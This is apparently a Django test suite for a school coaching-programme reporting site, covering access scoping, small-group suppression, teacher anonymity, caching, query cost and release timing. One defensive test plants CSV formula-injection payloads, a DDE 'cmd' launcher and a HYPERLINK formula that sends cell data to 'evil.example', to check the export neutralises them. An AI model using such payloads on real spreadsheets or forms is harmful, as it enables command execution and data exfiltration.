import csv
import datetime
import io

import pytest
from django.conf import settings
from django.db import connection
from django.template.defaultfilters import date as date_filter
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from tests import factories
from tests.reports.scenarios import closed_cycle, release

pytestmark = pytest.mark.django_db


def test_the_school_administrators_home_is_the_report(
    client_for, school_admin, school, district, report_terms
):
    release(district)
    response = client_for(school_admin).get("/school/")
    assert "Riverside Elementary: coaching programme" in response.text
    assert response.context["report"]["now"]["staff"] == 0
    assert response.context["term"]["name"] == "Spring 2026"


def test_before_the_first_release_the_page_says_when_figures_come(client_for, school_admin):
    page = client_for(school_admin).get("/school/").text
    assert "No figures have been released yet" in page
    assert "every Monday at 4:00" in page


def test_an_administrator_of_school_a_gets_404_on_school_bs_report(
    client_for, school_admin, other_school
):
    client = client_for(school_admin)
    assert client.get(f"/reports/schools/{other_school.pk}/").status_code == 404
    assert client.get(f"/reports/schools/{other_school.pk}/export.csv").status_code == 404


def test_a_district_administrator_reads_every_school_of_the_district(
    client_for, district_admin, school, other_school, district, report_terms
):
    release(district)
    client = client_for(district_admin)
    for s in (school, other_school):
        assert client.get(f"/reports/schools/{s.pk}/").status_code == 200
    page = client.get("/district/").text
    assert "Riverside Elementary" in page
    assert "Hillcrest Middle School" in page


def test_a_figure_about_fewer_than_k_teachers_is_hidden(
    client_for, school_admin, school, district, report_terms, in_last_term, settings
):
    settings.REPORT_MIN_GROUP = 3
    for _ in range(2):
        closed_cycle(school, "Instruction", ended_on=in_last_term)
    release(district)
    report = client_for(school_admin).get("/school/").context["report"]
    instruction = next(row for row in report["areas"] if row["name"] == "Instruction")
    assert instruction["closed"] == "hidden"


def test_k_or_more_teachers_shows_the_figure(
    client_for, school_admin, school, district, report_terms, in_last_term, settings
):
    settings.REPORT_MIN_GROUP = 3
    for _ in range(4):
        closed_cycle(school, "Instruction", "met", ended_on=in_last_term)
    for _ in range(3):
        closed_cycle(school, "Formative assessment", "not_met", ended_on=in_last_term)
    release(district)
    report = client_for(school_admin).get("/school/").context["report"]
    instruction = next(row for row in report["areas"] if row["name"] == "Instruction")
    assert (instruction["closed"], instruction["met"], instruction["met_rate"]) == (4, 4, 100)


def test_no_teacher_is_named_in_a_report_or_its_export(
    client_for, school_admin, school, district, report_terms, in_last_term, teacher
):
    closed_cycle(school, teacher=teacher, ended_on=in_last_term)
    release(district)
    client = client_for(school_admin)
    for url in ("/school/", f"/reports/schools/{school.pk}/export.csv"):
        body = client.get(url).content.decode()
        assert teacher.full_name not in body
        assert teacher.email not in body


def test_no_administrator_can_make_a_new_release(
    client_for, school_admin, district_admin, school, district
):
    for person, url in [
        (school_admin, f"/reports/schools/{school.pk}/refresh/"),
        (district_admin, f"/reports/districts/{district.pk}/refresh/"),
    ]:
        assert client_for(person).post(url, {"term": "this_term"}).status_code == 404
    page = client_for(school_admin).get("/school/").text
    assert "Recompute" not in page


def test_the_page_says_when_the_next_release_comes(
    client_for, school_admin, district, report_terms
):
    release(district)
    page = client_for(school_admin).get("/school/").text
    # The suite's instant is Sunday 23:30 in Chicago: the next Monday 4:00 is hours away.
    assert "next release Monday, Nov 23, 4:00 a.m." in page


def test_the_period_filter_offers_ended_terms_only(
    client_for, school_admin, district, report_terms
):
    release(district)
    client = client_for(school_admin)
    last, current = report_terms
    assert [p["name"] for p in client.get("/school/").context["periods"]] == ["Spring 2026"]
    assert client.get(f"/school/?term=t{last.pk}").context["term"]["key"] == f"t{last.pk}"
    assert client.get(f"/school/?term=t{current.pk}").context["term"]["key"] == f"t{last.pk}"
    assert client.get("/school/?term=nonsense").context["term"]["key"] == f"t{last.pk}"


def test_a_term_not_yet_ended_is_promised_not_shown(client_for, school_admin, district, today):
    factories.TermFactory(
        district=district,
        name="Fall 2026",
        starts_on=today - datetime.timedelta(days=30),
        ends_on=today + datetime.timedelta(days=30),
    )
    release(district)
    page = client_for(school_admin).get("/school/").text
    assert "the figures of Fall 2026 are released after it ends" in page


def test_report_pages_and_exports_are_never_kept_in_a_cache(
    client_for, school_admin, district_admin, school, district, report_terms
):
    release(district)
    for person, url in [
        (school_admin, "/school/"),
        (school_admin, f"/reports/schools/{school.pk}/export.csv"),
        (district_admin, "/district/"),
        (district_admin, f"/reports/districts/{district.pk}/export.csv"),
    ]:
        response = client_for(person).get(url)
        assert response.status_code == 200
        assert set(response["Cache-Control"].split(", ")) >= {"private", "no-store"}


def test_anyone_signed_in_can_read_how_the_reports_protect_teachers(client_for, teacher):
    page = client_for(teacher).get("/reports/how-teachers-are-protected/").text
    assert "never how a named teacher is doing" in page
    assert "fewer than 5 teachers" in page


def count(client, url):
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured)


def test_report_pages_cost_the_same_as_schools_teachers_and_cycles_grow(
    client_for, school_admin, district_admin, school, district, report_terms, in_last_term,
    clock,
):  # fmt: skip
    def grow(n):
        for _ in range(n):
            extra = factories.SchoolFactory(district=district)
            for s in (school, extra):
                closed_cycle(s, "Instruction", ended_on=in_last_term)
                factories.ActivityEntryFactory(school=s, date=in_last_term)

    grow(1)
    release(district)
    urls = [(school_admin, "/school/"), (district_admin, "/district/")]
    few = [count(client_for(person), url) for person, url in urls]
    grow(24)
    clock.shift(datetime.timedelta(days=7))
    release(district)
    many = [count(client_for(person), url) for person, url in urls]
    assert few == many
    # user, the second step's device, memberships, the scope check, the latest release and
    # its figures (the district page: and its first page of schools); and the session,
    # unless it comes from Redis
    session = 0 if settings.SESSION_ENGINE.endswith("cached_db") else 1
    assert many == [6 + session, 7 + session]


def test_no_cell_of_an_export_can_run_as_a_formula(
    client_for, school_admin, school, district, report_terms, in_last_term, settings
):
    settings.REPORT_MIN_GROUP = 3
    area = school.district.focus_areas.create(name="=cmd|' /C calc'!A0", position=9)
    coach = factories.coach_at(school, user__full_name='=HYPERLINK("http://evil.example/?"&A1,"x")')
    for _ in range(3):
        cycle = closed_cycle(school, ended_on=in_last_term)
        cycle.focus_area = area
        cycle.save()
        factories.ActivityEntryFactory(
            coach=coach, school=school, minutes=30, date=in_last_term,
            partnership=factories.PartnershipFactory(school=school, coach=coach),
        )  # fmt: skip
    release(district)
    export = client_for(school_admin).get(f"/reports/schools/{school.pk}/export.csv")
    cells = [c for row in csv.reader(io.StringIO(export.content.decode("utf-8-sig"))) for c in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_district_administrator_reads_report_times_in_the_schools_zone(
    client_for, school, district_admin, clock
):
    made = release(school.district)
    page = client_for(district_admin).get(f"/reports/schools/{school.pk}/").text
    in_school = timezone.localtime(made.released_at, school.zone)
    in_utc = timezone.localtime(made.released_at, datetime.UTC)
    # At the suite's instant: Sunday 11:30 p.m. in Chicago, not Monday 5:30 a.m. in UTC.
    assert f"Released {date_filter(in_school, 'l, M j, g:i a')}" in page
    assert f"Released {date_filter(in_utc, 'l, M j, g:i a')}" not in page
